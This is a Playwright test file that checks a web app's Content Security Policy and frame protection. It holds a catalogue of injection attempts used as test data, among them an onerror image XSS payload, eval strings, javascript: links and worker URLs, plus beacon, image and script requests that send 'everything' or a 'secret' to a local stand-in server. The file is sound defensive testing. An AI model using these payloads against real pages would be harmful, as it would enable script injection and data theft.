import { readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, test, type Page } from 'playwright/test';
import { generate, visit } from './lab.ts';

interface WithRefusals {
  refusals?: string[];
}

/** Records what the browser refuses under the policy of the page. The result reads those of this page. */
async function watchRefusals(page: Page): Promise<() => Promise<readonly string[]>> {
  await page.addInitScript(() => {
    const refusals: string[] = [];
    (globalThis as WithRefusals).refusals = refusals;
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, sample }) => {
      refusals.push(`${effectiveDirective} ${blockedURI} ${sample}`);
    });
  });
  return () => page.evaluate(() => (globalThis as WithRefusals).refusals ?? ['nobody watched']);
}

test('the page obeys its own policy, from the first paint to a run of another model', async ({ page }) => {
  const refusals = await watchRefusals(page);
  const lab = await visit(page);
  await lab.select('Preset').selectOption('lasagna-top');
  await generate(lab, 4);
  await lab.layerTypes.fill('0_x');
  await lab.layerTypes.fill('0_1_2_3_4_5_6_7');
  await page.getByRole('button', { name: 'Load fairy-llama' }).click();
  await generate(lab, 4);
  await page.getByRole('button', { name: 'Copy link' }).click();
  expect(await refusals()).toEqual([]);

  await page.goto('./#v=1&colour=red');
  await page.reload();
  await expect(page.getByRole('alert')).toBeVisible();
  expect(await refusals()).toEqual([]);
});

/** What a script that got into the page might try. Each attempt returns whether it had an effect. */
const attempts = {
  'an inline event handler': () => {
    const button = document.createElement('button');
    button.setAttribute('onclick', 'globalThis.owned = true');
    document.body.append(button);
    button.click();
  },
  'HTML made of a string': () => {
    document.body.insertAdjacentHTML('beforeend', '<img src="x" onerror="globalThis.owned = true">');
  },
  'an inline script': () => {
    const script = document.createElement('script');
    script.text = 'globalThis.owned = true';
    document.body.append(script);
  },
  'a script of another origin': (origin: string) => {
    const script = document.createElement('script');
    script.src = `${origin}/owned.js`;
    document.body.append(script);
  },
  eval: () => {
    // Called by another name, it runs in the global scope.
    const indirect = globalThis.eval;
    indirect('globalThis.owned = true');
  },
  'a function made of a string': () => {
    (Reflect.construct(Function, ['globalThis.owned = true']) as () => void)();
  },
  'a timer made of a string': () => {
    setTimeout('globalThis.owned = true' as unknown as () => void);
  },
  'a worker in a data: address': () => {
    new Worker('data:text/javascript,postMessage(1)').onmessage = () => {
      Object.assign(globalThis, { owned: true });
    };
  },
  'a worker in a blob: address': () => {
    const blob = new Blob(['postMessage(1)'], { type: 'text/javascript' });
    new Worker(URL.createObjectURL(blob)).onmessage = () => {
      Object.assign(globalThis, { owned: true });
    };
  },
  'a worker of another origin': (origin: string) => {
    new Worker(`${origin}/owned.js`);
  },
  fetch: (origin: string) => {
    fetch(origin).catch(() => undefined);
  },
  'a request in the old way': (origin: string) => {
    const request = new XMLHttpRequest();
    request.open('GET', origin);
    request.send();
  },
  'a beacon': (origin: string) => {
    navigator.sendBeacon(origin, 'everything');
  },
  'a web socket': (origin: string) => {
    new WebSocket(origin.replace('http', 'ws'));
  },
  'an event stream': (origin: string) => {
    new EventSource(origin);
  },
  'an image of another origin': (origin: string) => {
    new Image().src = origin;
  },
  'a module of another origin': (origin: string) => {
    import(`${origin}/owned.js`).catch(() => undefined);
  },
  'an address that is a script': () => {
    const link = Object.assign(document.createElement('a'), { href: 'javascript:globalThis.owned=true' });
    document.body.append(link);
    link.click();
  },
  'a background of another origin': (origin: string) => {
    const box = document.createElement('div');
    box.style.backgroundImage = `url(${origin}/?secret)`;
    box.style.height = '9px';
    document.body.append(box);
  },
  'a font of another origin': (origin: string) => {
    new FontFace('owned', `url(${origin}/font)`).load().catch(() => undefined);
  },
  'a sound of another origin': (origin: string) => {
    new Audio(`${origin}/sound`).load();
  },
  'a shared worker in a data: address': () => {
    new SharedWorker('data:text/javascript,0');
  },
  'a frame': (origin: string) => {
    document.body.append(Object.assign(document.createElement('iframe'), { src: origin }));
  },
  'an object': (origin: string) => {
    document.body.append(Object.assign(document.createElement('object'), { data: origin }));
  },
  'a form': (origin: string) => {
    const form = Object.assign(document.createElement('form'), { action: origin, method: 'post' });
    document.body.append(form);
    form.submit();
  },
  'another base address': (origin: string) => {
    document.head.append(Object.assign(document.createElement('base'), { href: origin }));
    if (document.baseURI.startsWith(origin)) Object.assign(globalThis, { owned: true });
  },
} satisfies Readonly<Record<string, (origin: string) => void>>;

/** A server of another origin that answers everything, and records whatever reaches it. */
async function startForeigner() {
  const reached: string[] = [];
  const server = createServer((request, response) => {
    reached.push(`${request.method ?? ''} ${request.url ?? ''}`);
    response.setHeader('access-control-allow-origin', '*');
    response.setHeader('content-type', 'text/javascript');
    response.end('globalThis.owned = true');
  });
  server.on('upgrade', (request, socket) => {
    reached.push(`upgrade ${request.url ?? ''}`);
    socket.destroy();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo; // it listens to a port
  const stop = () => {
    server.closeAllConnections();
    return new Promise((resolve) => server.close(resolve));
  };
  return { origin: `http://127.0.0.1:${port}`, reached, stop };
}

declare global {
  var attempts: Readonly<Record<string, (origin: string) => void>>;
  var owned: boolean | undefined;
}

test('the policy refuses whatever a script that got into the page might try', async ({ page }) => {
  const foreigner = await startForeigner();
  try {
    await fetch(foreigner.origin);
    expect(foreigner.reached.splice(0)).toEqual(['GET /']);

    const refusals = await watchRefusals(page);
    const sources = Object.entries(attempts).map(
      ([what, attempt]) => `${JSON.stringify(what)}: ${String(attempt)}`,
    );
    await page.addInitScript({ content: `globalThis.attempts = {${sources.join()}}` });
    await visit(page);
    for (const what of Object.keys(attempts)) {
      const before = (await refusals()).length;
      await page.evaluate(
        // From a timer, because DevTools may do more than the page.
        ({ what, origin }) => setTimeout(() => globalThis.attempts[what]?.(origin)),
        { what, origin: foreigner.origin },
      );
      await expect.poll(async () => (await refusals()).length, `refusals of ${what}`).toBeGreaterThan(before);
    }
    expect(await page.evaluate(() => globalThis.owned)).toBeUndefined();
    expect(foreigner.reached).toEqual([]);
  } finally {
    await foreigner.stop();
  }
});

/** Shows the page in a frame of another origin, served with some more headers. */
async function frame(page: Page, headers: Readonly<Record<string, string>>) {
  const { origin } = new URL(page.url());
  await page.route('**/*', async (route) => {
    if (!route.request().isNavigationRequest()) return route.continue();
    const response = await route.fetch();
    return route.fulfill({ response, headers: { ...response.headers(), ...headers } });
  });
  const foreigner = createServer((_, response) => {
    response.setHeader('content-type', 'text/html');
    response.end(`<iframe src="${origin}/" width="1000" height="1000"></iframe>`);
  });
  await new Promise<void>((resolve) => foreigner.listen(0, '127.0.0.1', resolve));
  const { port } = foreigner.address() as AddressInfo; // it listens to a port
  await page.goto(`http://127.0.0.1:${port}/`);
  return {
    shown: page.frameLocator('iframe').getByRole('heading', { level: 1 }),
    stop: () => {
      foreigner.closeAllConnections();
      foreigner.close();
    },
  };
}

test('the page runs with the headers that docs/security.md recommends, which keep it out of frames', async ({
  page,
}) => {
  const recommended = headersIn(readFileSync('docs/security.md', 'utf8'));
  expect(Object.keys(recommended)).toContain('content-security-policy');
  await page.route('**/*', async (route) => {
    const response = await route.fetch();
    await route.fulfill({ response, headers: { ...response.headers(), ...recommended } });
  });
  const lab = await visit(page);
  await generate(lab, 4);
  await page.unrouteAll({ behavior: 'wait' });

  const without = await frame(page, {});
  await expect(without.shown).toBeVisible();
  without.stop();
  await page.goto(test.info().project.use.baseURL ?? '');
  const framed = await frame(page, recommended);
  await expect.poll(() => page.frames().map((each) => each.url())).toContain('chrome-error://chromewebdata/');
  await expect(framed.shown).toHaveCount(0);
  framed.stop();
});

/** The headers in a document's block of code that is marked as `http`. */
function headersIn(markdown: string): Readonly<Record<string, string>> {
  const [, block = ''] = /```http\n(.*?)```/s.exec(markdown) ?? [];
  const lines = block.split('\n').filter((line) => line !== '');
  return Object.fromEntries(
    lines.map((line) => {
      const cut = line.indexOf(': ');
      return [line.slice(0, cut).toLowerCase(), line.slice(cut + 2)] as const;
    }),
  );
}
